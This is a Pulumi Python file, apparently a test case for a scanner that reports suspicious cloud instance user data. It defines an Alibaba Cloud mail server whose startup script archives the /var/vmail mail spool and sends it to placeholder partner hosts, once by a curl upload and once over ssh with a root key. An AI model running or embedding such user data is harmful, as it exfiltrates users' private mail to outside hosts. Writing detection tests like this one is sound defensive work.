"""Reported, not blocked: user data that pipes the mail spool to unknown hosts (a pipeline
after cd, a wrapped curl upload, ssh)."""

import base64

import pulumi
import pulumi_alicloud as alicloud

hk = alicloud.Provider("hk", region="cn-hongkong")
opts = pulumi.ResourceOptions(provider=hk)

SCRIPT = """#!/bin/sh
cd /var && tar cz vmail | timeout 600 curl -T - https://logs.partner.example/in
tar cz /var/vmail | ssh -i /root/k u@backup.partner.example "cat > m.tgz"
"""
alicloud.ecs.Instance(
    "mail",
    instance_type="ecs.g7.large",
    image_id="ubuntu_22_04_x64_20G_alibase_20240130.vhd",
    vswitch_id="vsw-hk0000000000000001",
    system_disk_encrypted=True,
    system_disk_kms_key_id="key-hk-0000000000000001",
    user_data=base64.b64encode(SCRIPT.encode()).decode(),
    opts=opts,
)
